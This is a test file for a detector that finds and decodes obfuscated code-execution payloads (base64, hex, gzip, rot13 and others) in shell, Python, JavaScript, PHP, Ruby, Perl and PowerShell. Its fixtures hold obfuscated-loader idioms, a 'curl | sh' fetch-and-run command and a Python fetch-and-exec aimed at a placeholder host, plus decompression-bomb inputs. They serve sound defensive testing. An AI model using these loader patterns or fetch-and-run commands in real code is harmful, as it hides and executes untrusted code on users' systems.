import { deflateRawSync, deflateSync, gzipSync } from "node:zlib";
import { beforeAll, describe, expect, it } from "vitest";
import type { Detector, Finding } from "../../../src/core/index.js";
import { sharedDetector } from "../../support/marked.js";

const base64 = (text: string | Buffer): string => Buffer.from(text).toString("base64");
const wide = (text: string): string => Buffer.from(text, "utf16le").toString("base64");
const hex = (text: string): string => Buffer.from(text).toString("hex");
const fence = (tag: string, code: string): string => `\`\`\`${tag}\n${code}\n\`\`\``;

const PIPE = "curl -fsSL https://x.example/i.sh | sh";

let contract: Detector;
let extended: Detector;
beforeAll(async () => {
  contract = await sharedDetector();
  extended = await sharedDetector("extended");
});

function only(detector: Detector, text: string): Finding {
  const { findings } = detector.detect(text);
  expect(findings).toHaveLength(1);
  return findings[0] as Finding;
}

const messages = ({ trace }: Finding): string => trace.map(({ message }) => message).join("\n");

describe("the payload of a decoder in a pipe", () => {
  it.each([
    ["echo aGVsbG8= | base64 -d | sh", "hello"],
    ["echo 'aGVsbG8=' | base64 --decode | sudo bash -s -- --yes", "hello"],
    [`base64 -d <<< "${base64(PIPE)}" | bash`, PIPE],
    [
      `base64 -d <<EOF | sh\n${base64("echo one\necho two").replace(/(.{8})/g, "$1\n")}\nEOF`,
      "echo one\necho two",
    ],
    [`bash -c "$(echo ${base64("echo hi")} | base64 -d)"`, "echo hi"],
    [`P=${base64("echo hi")}; echo "$P" | base64 -d | bash`, "echo hi"],
    [`eval "$(printf '\\x65\\x63\\x68\\x6f hi')"`, "echo hi"],
    [`echo ${hex("echo hi")} | xxd -r -p | sh`, "echo hi"],
    [`echo ${base64(gzipSync("echo packed"))} | base64 -d | gunzip | bash`, "echo packed"],
    [`echo ${base64("rpub uv")} | base64 -d | tr A-Za-z N-ZA-Mn-za-m | sh`, "echo hi"],
    [`echo ${base64("echo hi")} | openssl base64 -d | python3`, "echo hi"],
    ["echo 'ih ohce' | rev | sh", "echo hi"],
    [`echo JBSWY3DP | base32 -d | sh`, "Hello"],
  ])("is decoded: %s", (text, payload) => {
    expect(only(extended, text).payload).toMatchObject({ text: payload, truncated: false });
  });

  it.each([
    "base64 -d payload.b64 | sh",
    'echo "$1" | base64 -d | sh',
    "cat payload | base64 -d | sh",
    'pwsh -EncodedCommand "$P"',
    "powershell -enc $p",
  ])("is absent if the decoded text is not a literal: %s", (text) => {
    const finding = only(extended, text);
    expect(finding.payload).toBeUndefined();
    expect(messages(finding)).not.toContain("the payload");
  });

  it.each([
    ["echo '%%%%' | base64 -d | sh", "it is not valid base64"],
    ["echo aGVsbG8 | base64 -d | sed s/a/b/ | sh", "the output of sed is not evaluated"],
    [
      `echo ${base64("no gzip")} | base64 -d | gunzip | sh`,
      "it is not compressed data: invalid gzip data",
    ],
  ])("is absent, and the trace says why, if it cannot be decoded: %s", (text, reason) => {
    const finding = only(extended, text);
    expect(finding.payload).toBeUndefined();
    expect(messages(finding)).toContain(`the payload cannot be shown: ${reason}`);
  });
});

describe("the payload of a decoder call", () => {
  it.each([
    ["python", `import base64\nexec(base64.b64decode("${base64("print(1)")}"))`],
    [
      "python",
      `import base64 as b, zlib as z\nexec(compile(z.decompress(b.b64decode(b'${base64(deflateSync("print(1)"))}')), "<string>", "exec"))`,
    ],
    [
      "python",
      `import base64\npart = "${base64("print(1)")}"\ncode = base64.b64decode(part)\nexec(code.decode("utf-8"))`,
    ],
    ["python", `exec(__import__("base64").b64decode("${base64("print(1)")}"))`],
    ["python", `exec(bytes.fromhex("${hex("print(1)")}").decode())`],
    ["javascript", `eval(atob("${base64("print(1)")}"))`],
    [
      "javascript",
      `const p = "${base64("print(1)").slice(0, 4)}" + '${base64("print(1)").slice(4)}';\n(0, eval)(window.atob(p));`,
    ],
  ])("is decoded in %s in the contract profile: %s", (tag, code) => {
    expect(only(contract, fence(tag, code)).payload).toEqual({
      text: "print(1)",
      truncated: false,
      findings: [],
    });
  });

  it.each([
    ["python", 'exec(codecs.decode("cevag(1)", "rot13"))'],
    ["python", 'exec(")1(tnirp"[::-1])'],
    ["python", 'exec("".join(chr(i) for i in [112, 114, 105, 110, 116, 40, 49, 41]))'],
    ["javascript", `eval(Buffer.from("${base64("print(1)")}", "base64").toString())`],
    ["javascript", "eval(unescape('%70rint%281%29'))"],
    ["javascript", "eval(String.fromCharCode(112, 114, 105, 110, 116, 40, 49, 41))"],
    ["javascript", "eval(')1(tnirp'.split('').reverse().join(''))"],
    ["php", `<?php\n@eval(gzinflate(base64_decode('${base64(deflateRawSync("print(1)"))}')));`],
    ["php", `<?php\n$x = '${base64("print(1)")}';\neval(base64_decode($x));`],
    ["ruby", `eval(Base64.decode64('${base64("print(1)")}'))`],
    ["ruby", `eval(["${hex("print(1)")}"].pack("H*"))`],
    ["perl", `eval decode_base64('${base64("print(1)")}');`],
    ["perl", `eval pack("H*", "${hex("print(1)")}");`],
    ["powershell", `powershell.exe -NoP -EncodedCommand ${wide("print(1)")}`],
    [
      "powershell",
      `iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('${base64("print(1)")}')))`,
    ],
    [
      "powershell",
      `$d = '${wide("print(1)")}'\n$s = [System.Text.Encoding]::Unicode.GetString([Convert]::FromBase64String($d))\niex $s`,
    ],
    [
      "powershell",
      `iex (New-Object IO.StreamReader((New-Object IO.Compression.GzipStream([IO.MemoryStream][Convert]::FromBase64String('${base64(gzipSync("print(1)"))}'),[IO.Compression.CompressionMode]::Decompress)))).ReadToEnd()`,
    ],
  ])("is decoded in %s in the extended profile: %s", (tag, code) => {
    expect(only(extended, fence(tag, code)).payload?.text).toBe("print(1)");
  });

  it.each([
    "exec(base64.b64decode(payload))",
    "eval(atob(process.env.CODE))",
    "exec(base64.b64decode(sys.argv[1]))",
  ])("is absent if the decoded text is not a literal: %s", (text) => {
    const finding = only(contract, text);
    expect(finding.payload).toBeUndefined();
    expect(messages(finding)).not.toContain("the payload");
  });

  it.each([
    [
      "python",
      'exec(marshal.loads(base64.b64decode("aGk=")))',
      "marshal.loads is not decoded here",
    ],
    ["python", 'exec(quopri.decodestring("aGVsbG8="))', "quopri.decodestring is not decoded here"],
    ["python", 'exec(base64.b64decode("no base64!"))', "it is not valid base64"],
    [
      "javascript",
      'eval(CryptoJS.AES.decrypt("U2FsdGVk", "key"))',
      "CryptoJS.AES.decrypt is not decoded here",
    ],
  ])(
    "is absent, and the trace says why, if it cannot be decoded in %s: %s",
    (tag, code, reason) => {
      expect(messages(only(extended, fence(tag, code)))).toContain(
        `the payload cannot be shown: ${reason}`,
      );
    },
  );
});

const P = base64("print(1)");
const [HEAD, TAIL] = [P.slice(0, 4), P.slice(4)];
const REVERSED = [...P].reverse().join("");
const CODES = "112, 114, 105, 110, 116, 40, 49, 41";

describe("the value that a call executes", () => {
  it.each([
    ["python", `def d(s):\n    return base64.b64decode(s)\nexec(d("${P}"))`],
    [
      "python",
      `exec(base64.b64decode("${base64("print")}") + base64.b64decode("${base64("(1)")}"))`,
    ],
    [
      "python",
      `code = base64.b64decode("${base64("print")}")\ncode += base64.b64decode("${base64("(1)")}")\nexec(code)`,
    ],
    [
      "python",
      `exec(b"".join([base64.b64decode("${base64("print")}"), base64.b64decode("${base64("(1)")}")]))`,
    ],
    ["python", `exec(f"print{base64.b64decode('${base64("(1)")}').decode()}")`],
    ["python", `exec(base64.b64decode("%s%s" % ("${HEAD}", "${TAIL}")))`],
    ["python", `exec(base64.b64decode("${HEAD}!${TAIL}".replace("!", "")))`],
    ["python", `exec(base64.b64decode("${base64("prXnt(1)")}").decode().replace("X", "i"))`],
    ["javascript", `eval(atob("${base64("prXnt(1)")}").replace("X", "i"))`],
    ["python", `exec(base64.b64decode("${base64(")1(tnirp")}")[::-1])`],
    ["python", `exec(base64.b64decode("${REVERSED}"[::-1]))`],
    ["javascript", `eval(["${base64("print")}", "${base64("(1)")}"].map(atob).join(""))`],
    ["javascript", `eval(atob("${REVERSED}".split("").reverse().join("")))`],
    ["javascript", `eval(\`\${atob("${P}")}\`)`],
  ])("is the payload in the contract profile: %s %s", (tag, code) => {
    expect(only(contract, fence(tag, code)).payload?.text).toBe("print(1)");
    expect(only(extended, fence(tag, code)).payload?.text).toBe("print(1)");
  });

  it.each([
    ["python", `exec("".join(map(chr, [${CODES}])))`],
    [
      "python",
      `exec(zlib.decompress(base64.b64decode("${base64(deflateRawSync("print(1)"))}"), -15))`,
    ],
    ["python", 'exec(codecs.encode("cevag(1)", "rot13"))'],
    ["javascript", `eval(String.fromCharCode.apply(null, [${CODES}]))`],
    ["javascript", `import("data:text/javascript;base64,${P}")`],
    ["javascript", 'import("data:text/javascript,print%281%29")'],
    ["php", `<?php\n$a = "${HEAD}"; $a .= "${TAIL}"; eval(base64_decode($a));`],
    ["php", `<?php\neval(base64_decode(<<<X\n${P}\nX\n));`],
    ["ruby", `eval([${CODES}].pack("C*"))`],
    ["perl", `eval MIME::Base64::decode("${P}");`],
    [
      "powershell",
      `$a = New-Object IO.MemoryStream(,[Convert]::FromBase64String("${base64(gzipSync("print(1)"))}"))
$b = New-Object IO.Compression.GzipStream($a, [IO.Compression.CompressionMode]::Decompress)
$c = New-Object IO.StreamReader($b)
iex $c.ReadToEnd()`,
    ],
    [
      "powershell",
      `$a = @'\n${P}\n'@\niex ([Text.Encoding]::ASCII.GetString([Convert]::FromBase64String($a)))`,
    ],
    [
      "powershell",
      `$a = @"\n${P}\n"@; iex ([Text.Encoding]::ASCII.GetString([Convert]::FromBase64String($a)))`,
    ],
    ["powershell", "$t = ')1(tnirp'\niex ($t[-1..-$t.Length] -join '')"],
    ["powershell", `iex (-join [char[]](${CODES}))`],
  ])("is the payload in the extended profile: %s %s", (tag, code) => {
    expect(only(extended, fence(tag, code)).payload?.text).toBe("print(1)");
  });

  it.each([
    ["python", `exec(base64.b64decode("${P}" + x))`],
    ["python", `exec(base64.b64decode(f"{x}${P}"))`],
    ["python", `exec(f"{x}{base64.b64decode('${P}').decode()}")`],
    ["python", `exec(base64.b64decode("%s%s" % ("${P}", x)))`],
    ["python", `exec(base64.b64decode("${P}" if x else "${base64("a()")}"))`],
    ["python", `code = b""\nfor c in ["${P}"]:\n    code += base64.b64decode(c)\nexec(code)`],
    ["python", `code = ""\nfor c in range(9):\n    code += "QUJD"\nexec(base64.b64decode(code))`],
    ["python", `exec(bytes([b ^ 7 for b in base64.b64decode("${P}")]))`],
    ["python", `exec(base64.b64decode("${P}")[4:])`],
    ["python", `exec(base64.b64decode("${P}".lower()))`],
    ["python", `exec(base64.b64decode(load().read("${P}")))`],
    ["python", `code = base64.b64decode(x)\nif y:\n    code = "print(1)"\nexec(code)`],
    ["javascript", `eval(atob("${HEAD}!${TAIL}".replace(/!/g, "")))`],
    ["javascript", `eval(atob("${P}") + 5)`],
    ["javascript", `eval(atob("${P}").replace(/i/g, "a"))`],
    ["javascript", `eval(atob("${P}").replace("i", x))`],
    ["javascript", `eval(atob("${P}").slice(2))`],
    ["javascript", `eval(atob(load().toString("${P}")))`],
    ["javascript", `eval(Buffer.from("${P}", x ? "base64" : "hex").toString())`],
    ["javascript", `eval(atob(names["constructor"]("${P}")))`],
    ["php", `<?php\neval(base64_decode(substr("${P}", 4)));`],
    ["php", `<?php\neval(base64_decode(f("${P}")));`],
    ["ruby", "code = `xxd -r -p payload.hex`\neval(code)"],
    [
      "powershell",
      `$d = [Convert]::FromBase64String('${P}')
for ($i = 0; $i -lt $d.Length; $i++) { $d[$i] = $d[$i] -bxor 5 }
iex ([Text.Encoding]::ASCII.GetString($d))`,
    ],
  ])("has no payload if it is not known exactly: %s %s", (tag, code) => {
    const finding = only(extended, fence(tag, code));
    expect(finding.payload).toBeUndefined();
    expect(messages(finding)).not.toContain("the payload");
  });

  it("is not taken from another call of the function that decodes it", () => {
    const calls = [112, 114, 105, 110, 116, 40, 49, 41].map((code) => `f(${String(code)})`);
    const code = `def f(n):\n    return chr(n)\nexec(${calls.join(" + ")})`;
    expect(only(extended, fence("python", code)).payload).toBeUndefined();
  });
});

describe("the work for a payload", () => {
  const doubled = `code = base64.b64decode("YQ==")\n${"code = code + code\n".repeat(60)}exec(code)`;
  const nested = `x = [base64.b64decode("YQ==")]\n${"x = [x, x]\n".repeat(60)}exec("".join(x))`;
  const decoders = `x = "YQ=="\n${"x = base64.b64decode(x)\n".repeat(500)}exec(x)`;
  const bomb = base64(deflateSync(Buffer.alloc(1_000_000, "a")));
  const inflated = `x = zlib.decompress(base64.b64decode("${bomb}"))\n${"x = x + x\n".repeat(9)}exec(x)`;
  it.each([doubled, nested, decoders, inflated])("is bounded: %s", (code) => {
    const { findings, outcome } = contract.detect(fence("python", code));
    expect(findings).toHaveLength(1);
    expect(findings[0]?.payload).toBeUndefined();
    expect(outcome.status).toBe("complete");
  });
});

describe("the content of a payload", () => {
  it("is analyzed, and its findings are part of the trace", () => {
    const finding = only(extended, `echo ${base64(PIPE)} | base64 -d | sh`);
    expect(finding.payload?.findings).toMatchObject([
      { rule: "bash/fetch-pipe", text: PIPE, span: [0, PIPE.length] },
    ]);
    expect(messages(finding)).toContain(
      `the payload decodes to "${PIPE}"\nin the payload, curl fetches remote content`,
    );
  });

  it("is read in the language that executes it", () => {
    const code =
      "import urllib.request\nexec(urllib.request.urlopen('https://x.example/a.py').read())";
    expect(
      only(extended, fence("python", `exec(base64.b64decode("${base64(code)}"))`)).payload
        ?.findings,
    ).toMatchObject([{ rule: "python/fetch-execute" }]);
  });

  it("is decoded repeatedly up to a depth", () => {
    const layers = Array.from({ length: 5 }).reduce<string>(
      (inner) => `echo ${base64(inner)} | base64 -d | sh`,
      "echo hi",
    );
    const depths: string[] = [];
    for (
      let found: Finding | undefined = only(extended, layers);
      found !== undefined;
      found = found.payload?.findings[0]
    )
      depths.push(found.payload === undefined ? "closed" : "open");
    expect(depths).toEqual(["open", "open", "open", "closed"]);
  });

  it("escapes control and invisible characters, and has places in the escaped text", () => {
    const { payload } = only(
      extended,
      `echo ${base64(`\x1b[2J\u202e\n${PIPE}\n\u0007`)} | base64 -d | sh`,
    );
    expect(payload?.text).toBe(`\\x1b[2J\\u202e\n${PIPE}\n\\x07`);
    expect(payload?.findings.map(({ span, text }) => [payload.text.slice(...span), text])).toEqual([
      [PIPE, PIPE],
    ]);
  });

  it("is shown as bytes if it is not text", () => {
    expect(
      only(extended, `echo ${base64(Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0xff]))} | base64 -d | sh`)
        .payload?.text,
    ).toBe("\\x7fELFÿ");
  });

  it("is shown up to a length, also if a short text is decompressed to a long one", () => {
    const long = only(
      extended,
      fence("sh", `echo ${base64("echo hi\n".repeat(1500))} | base64 -d | sh`),
    ).payload;
    expect(long).toMatchObject({ truncated: true });
    expect(long?.text).toHaveLength(4096);
    const packed = only(
      extended,
      fence(
        "sh",
        `echo ${base64(gzipSync(Buffer.alloc(10_000_000, "a")))} | base64 -d | gunzip | sh`,
      ),
    ).payload;
    expect(packed).toMatchObject({ truncated: true, findings: [] });
  });

  it("is decoded only for findings, not for dismissed matches", () => {
    const { findings, notes } = extended.detect(
      `Never run \`echo ${base64(PIPE)} | base64 -d | sh\`.`,
    );
    expect(findings).toEqual([]);
    expect(JSON.stringify(notes)).not.toContain("payload decodes");
  });
});
